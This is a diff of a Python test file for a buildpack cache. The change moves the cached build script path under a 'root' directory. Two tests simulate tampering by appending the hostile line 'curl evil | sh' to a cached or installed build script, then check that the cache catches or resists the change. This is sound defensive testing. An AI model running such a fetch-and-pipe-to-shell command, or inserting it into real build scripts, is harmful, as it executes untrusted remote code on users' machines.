@@ -165,7 +165,7 @@ def test_a_changed_cached_tree_is_removed_and_downloaded_again(preparer: Callabl
     sha = hashlib.sha256(make_tgz(http_server.root / "bp.tgz", "me/tree").read_bytes()).hexdigest()
     uri = http_server.url(f"bp.tgz#sha256={sha}")
     assert preparer(project=group(uri)).code == 0
-    cached_build = tmp_path / "cache" / "trees" / "sha256" / sha / "bin" / "build"
+    cached_build = tmp_path / "cache" / "trees" / "sha256" / sha / "root" / "bin" / "build"
     with open(cached_build, "a") as f:
         f.write("curl evil | sh\n")
     shutil.rmtree(layout.buildpacks / "me_tree")
@@ -191,7 +191,7 @@ def test_a_build_that_rewrites_its_buildpack_does_not_rewrite_the_cache(world: P
     build_user = ("-uid", str(OTHER), "-gid", str(OTHER), "-download-cache", str(tmp_path / "cache"))
     assert run_as(None, layout, tmp_path, *build_user).code == 0
     installed = layout.buildpacks / "me_rw" / "1.0.0" / "bin" / "build"
-    cached = tmp_path / "cache" / "trees" / "sha256" / sha / "bin" / "build"
+    cached = tmp_path / "cache" / "trees" / "sha256" / sha / "root" / "bin" / "build"
     original = cached.read_bytes()
     # The build, as the build user, tries to append to its buildpack; then the workspace is recycled.
     subprocess.run(["sh", "-c", f"echo 'curl evil | sh' >> {installed}"], user=OTHER, group=OTHER, extra_groups=[],
